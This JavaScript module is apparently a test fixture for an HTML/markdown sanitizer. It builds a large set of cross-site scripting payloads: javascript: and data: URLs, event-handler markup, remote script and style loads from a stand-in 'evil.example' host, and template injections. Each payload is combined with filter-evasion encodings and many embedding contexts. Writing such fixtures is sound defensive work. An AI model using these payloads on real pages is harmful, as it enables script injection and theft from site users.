// Strings that would run a script or load something, if a page took them for more than text: every
// vector in every encoding, each of these in some contexts, so that it comes to every context too.
//
// A script that ran would call `broke`, which a test looks at; what is loaded would come from
// `foreign`.

export const foreign = "https://evil.example";

/** Addresses that run something. */
const addresses = [
  "javascript:broke()",
  "vbscript:broke()",
  "data:text/html,<script>parent.broke()</script>",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.broke()'/>",
];

/** Markup that runs or loads something. */
const markup = [
  "<script>broke()</script>",
  `<script src="${foreign}/s.js"></script>`,
  '<img src=x onerror="broke()">',
  `<img src="${foreign}/i.png" srcset="${foreign}/i2.png 2x">`,
  "<svg onload=broke()><animate onbegin=broke() attributeName=x dur=1s></svg>",
  '<svg><a xlink:href="javascript:broke()"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src onerror="broke()"></style></mglyph></table></mtext></math>',
  `<iframe src="javascript:parent.broke()" srcdoc="<script>parent.broke()</script>"></iframe>`,
  `<object data="${foreign}/o"></object><embed src="${foreign}/e">`,
  '<details open ontoggle="broke()"><summary>x</summary></details>',
  '<input autofocus onfocus="broke()"><video><source onerror="broke()"></video>',
  `<style>@import "${foreign}/c.css"; * { background: url(${foreign}/b.png) }</style>`,
  `<link rel="stylesheet" href="${foreign}/l.css"><link rel="prefetch" href="${foreign}/p">`,
  `<base href="${foreign}/"><meta http-equiv="refresh" content="0;url=javascript:broke()">`,
  '<form action="javascript:broke()"><button autofocus>x</button></form>',
  '<p style="background:url(javascript:broke())" onclick="broke()">x</p>',
  "<template shadowrootmode=open><img src=x onerror=broke()></template>",
  "<noscript><p title='</noscript><img src=x onerror=broke()>'>",
  "${broke()}{{broke()}}#{broke()}<%= broke() %>",
];

const entities = (text, write) =>
  Array.from(text, (one) => (/[\w:]/.test(one) ? write(one.codePointAt(0)) : one)).join("");

/** Ways to write the same so that a filter does not see it. */
const encodings = {
  plain: (text) => text,
  upperCase: (text) => text.replace(/[a-z]+(?=[\s:>=])/g, (word) => word.toUpperCase()),
  mixedCase: (text) => text.replace(/\b(?!broke\b|parent\b)[a-z]{2}/g, ([a, b]) => a + b.toUpperCase()),
  decimalEntities: (text) => entities(text, (code) => `&#${code};`),
  hexEntities: (text) => entities(text, (code) => `&#x${code.toString(16)}`),
  angleEntities: (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  percent: (text) => encodeURIComponent(text),
  scriptEscapes: (text) => text.replaceAll("<", "\\u003c").replaceAll(":", "\\x3a"),
  tabs: (text) => text.replace(/(?<=[a-z])(?=[a-z:])/, "\t").replace(/(?<=<\w+) /, "\t\f"),
  newlines: (text) => text.replace(/(?<=java)(?=script)/, "\n").replace(/(?<=<\w+) /, "\n"),
  nulls: (text) => text.replace(/(?<=java|<s|<i)/, "\0"),
  controlsBefore: (text) => `\u0001\u00a0\ufeff${text}`,
  zeroWidths: (text) => text.replace(/(?<=[a-z])(?=[a-z:])/, "\u200b"),
  fullWidth: (text) => text.replaceAll("<", "＜").replaceAll(":", "："),
};

/** Where in a text it stands. */
const contexts = {
  alone: (text) => text,
  attribute: (text) => `x" onmouseover="broke()" autofocus onfocus="broke()">${text}`,
  attributeInApostrophes: (text) => `x' onmouseover='broke()'>${text}`,
  closedElements: (text) => `--></script></style></textarea></title></template>]]>${text}`,
  link: (text) => `[click](${text})`,
  linkInBrackets: (text) => `[click](<${text}> "${text}")`,
  linkText: (text) => `[${text}](https://example.com/)`,
  image: (text) => `![${text}](${text})`,
  imageInLink: (text) => `[![x](${text})](${text})`,
  reference: (text) => `[click][1]\n\n[1]: ${text}`,
  autolink: (text) => `<${text}> ${text}`,
  code: (text) => `\`${text}\`\n\n\`\`\`html\n${text}\n\`\`\``,
  unclosedFence: (text) => `\`\`\`"><x ${text}\n${text}`,
  table: (text) => `| ${text} | a |\n|---|---|\n| [x](${text}) | ${text} |`,
  list: (text) => `- [ ] ${text}\n- > # ${text}`,
  emphasis: (text) => `**${text}** _${text}_ ~~${text}~~ $${text}$`,
  halfTyped: (text) => `[click](${text}`,
  citation: (text) => `[1${text}] [[${text}]] [^1]: ${text}`,
};

/** How many contexts a vector is put into in one encoding; the next encoding goes on from there. */
const turns = 2;

/** @param {readonly string[]} vectors */
function combined(vectors) {
  const places = Object.values(contexts);
  const strings = vectors.flatMap((vector, v) =>
    Object.values(encodings).flatMap((encode, e) =>
      Array.from({ length: turns }, (_, turn) => {
        const place = places[(v + e * turns + turn) % places.length];
        return place(encode(vector));
      }),
    ),
  );
  return [...new Set(strings)];
}

/** All of them, for whatever is a text. */
export const hostileStrings = combined([...addresses, ...markup]);

/** What stands where an address is expected, and may not lead anywhere. */
export const hostileAddresses = [
  ...new Set(addresses.flatMap((address) => Object.values(encodings).map((encode) => encode(address)))),
];
